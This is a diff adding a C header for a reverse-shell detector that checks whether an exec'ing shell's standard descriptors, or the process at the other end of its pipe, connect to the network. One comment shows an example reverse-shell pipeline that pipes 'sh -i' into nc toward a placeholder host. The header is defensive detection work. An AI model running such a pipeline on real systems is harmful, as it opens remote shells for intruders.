@@ -1,0 +1,64 @@
+/* SPDX-License-Identifier: MIT */
+/*
+ * Whether an exec'ing shell is wired to the network (ev->net), from its
+ * descriptors 0-2 and, for a pipe, named fifo, pty or socketpair, the
+ * descriptors of the process at the other end: the parent that spawned it
+ * or a sibling in the same pipeline.  What it finds are facts (the peer,
+ * how, who holds the socket); whether they make a reverse shell is the
+ * detector's judgement (sw_rules_net_revshell()).
+ *
+ * The other end's holder often connects a moment after the shell starts
+ * (`cat f | sh -i | nc HOST PORT` starts all three at once): a shell whose
+ * output goes to a pipe, fifo, pty or socket with no connected holder yet
+ * is kept for a few seconds and looked at again once a second.
+ */
+#ifndef SW_REVCONN_H
+#define SW_REVCONN_H
+
+#include <stdbool.h>
+#include <stdint.h>
+
+#include "event.h"
+#include "lineage.h"
+
+/* Shells kept to be looked at again, at most, and for how long. */
+#define SW_REVCONN_KEEP 64
+#define SW_REVCONN_KEEP_NS (3ull * 1000000000ull)
+
+struct sw_revconn;
+
+/* procfd: /proc (the caller's, not closed).  NULL when out of memory. */
+struct sw_revconn *sw_revconn_new(int procfd);
+void sw_revconn_free(struct sw_revconn *rc);
+
+/*
+ * At the exec of ev->pid, after the table applied it.  candidate: a shell
+ * or interpreter (all three descriptors and their holders are looked at);
+ * otherwise only a process whose stdin is a socket is (fd 0 is read, and
+ * it counts when its stdout or stderr is that same socket).  True with
+ * ev->net set (SW_HAVE_NET) when wired to a peer now.
+ */
+bool sw_revconn_exec(struct sw_revconn *rc, const struct sw_lineage *l,
+		     struct sw_event *ev, bool candidate);
+
+typedef void (*sw_revconn_found_fn)(void *data, int pid,
+				    const struct sw_net_peer *net);
+
+/*
+ * Once a second: the kept shells looked at again; found() for each that is
+ * wired now, which is kept no longer.  A shell that exited or was kept
+ * SW_REVCONN_KEEP_NS is dropped.
+ */
+void sw_revconn_tick(struct sw_revconn *rc, const struct sw_lineage *l,
+		     uint64_t now_ns, sw_revconn_found_fn found, void *data);
+
+struct sw_revconn_counts {
+	uint64_t checked;	/* execs whose descriptors were read */
+	uint64_t holders;	/* holder scans */
+	uint64_t kept;		/* shells kept to look at again */
+	uint64_t late;		/* of them found wired later */
+	uint64_t dropped;	/* kept ones that could not be (full) */
+};
+void sw_revconn_counts(const struct sw_revconn *rc, struct sw_revconn_counts *ret);
+
+#endif
